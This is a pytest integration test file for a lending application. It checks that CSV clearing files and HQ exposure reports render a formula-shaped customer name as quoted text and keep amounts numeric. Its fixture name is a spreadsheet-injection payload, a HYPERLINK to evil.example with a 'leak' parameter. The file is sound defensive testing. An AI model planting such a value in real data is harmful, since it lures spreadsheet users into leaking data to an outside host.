"""Every CSV Jinkong writes is safe to open in a spreadsheet: a customer named like a formula reaches
the clearing file and HQ's report datasets as text (a leading ``'``), while amounts stay numbers.

On a lending group of our own, so its consolidation reads only this module's books.
"""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from chalicelib.shared import clock
from tests.builders import LOAN_PRODUCT, adult_individual, loan_application
from tests.integration.origination.conftest import staff_context
from tests.integration.origination.flows import Desk, ok
from tests.integration.risk.conftest import risk_stack, run_to_end  # noqa: F401 — fixture reused as it is
from tests.integration.servicing.flows import key
from tests.integration.servicing.holding_group import make_lending_group

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","点这里")'


@pytest.fixture(scope="module")
def client(chalice_app, logins):
    from chalice.test import Client

    from tests.support import Api

    with Client(chalice_app) as c:
        yield Api(c, logins)


@pytest.fixture(scope="module")
def booked(client, servicing_routes, risk_stack):  # noqa: F811
    """A loan disbursed to a customer whose name is a spreadsheet formula."""
    grp = make_lending_group("a")
    desk = Desk(client, grp.sub("a"))
    customer = desk.customer(adult_individual(name=FORMULA_NAME))
    app_id = ok(desk.officer.post("/v1/applications", loan_application(customer)), 201)["id"]
    assert desk.submitted(app_id, LOAN_PRODUCT)["status"] == "risk_checked"
    assert ok(desk.review(app_id, "first"))["status"] == "approved"
    desk.signed(app_id)
    contract = ok(desk.as_("finance").post(f"/v1/applications/{app_id}/disburse", {}, headers=key()))
    return grp, desk, contract


def test_the_clearing_file_writes_a_formula_name_as_text_and_the_outflow_as_a_number(booked):
    from chalicelib.platform import aws
    from chalicelib.platform.settings import get_settings

    grp, desk, _ = booked
    today = clock.business_date(staff_context(grp.sub("a"), "finance"))
    report = ok(desk.as_("finance").get(f"/v1/clearing/reports?date={today.isoformat()}"))
    stored = aws.client("s3").get_object(Bucket=get_settings().clearing_bucket, Key=report["csv_key"])["Body"].read()
    rows = list(csv.DictReader(io.StringIO(stored.decode())))
    [row] = [r for r in rows if r["counterparty"].lstrip("'").startswith("=")]
    assert row["counterparty"].startswith("'=")  # shown as text, never evaluated
    assert row["net"].startswith("-") and Decimal(row["net"]) < 0  # an outflow: a number, not quoted text
    assert Decimal(row["gross_out"]) > 0


def test_hq_report_datasets_write_a_formula_name_as_text_and_figures_as_numbers(booked, client):
    grp, _, contract = booked
    run = run_to_end(client, grp.risk_user)
    assert run["status"] == "SUCCEEDED", run
    r = client.as_(grp.risk_user).get(f"/v1/group/reports/{run['run_id']}/exposures.csv?inline=true")
    assert r.status == 200, r.body
    rows = list(csv.DictReader(io.StringIO(r.body["content"].lstrip("\ufeff"))))
    [row] = [x for x in rows if x["contract_id"] == contract["id"]]
    assert row["customer_label"].startswith("'=")
    assert Decimal(row["exposure"]) > 0 and not row["exposure"].startswith("'")
    assert not any(v.startswith(("=", "+", "@")) for x in rows for v in x.values())
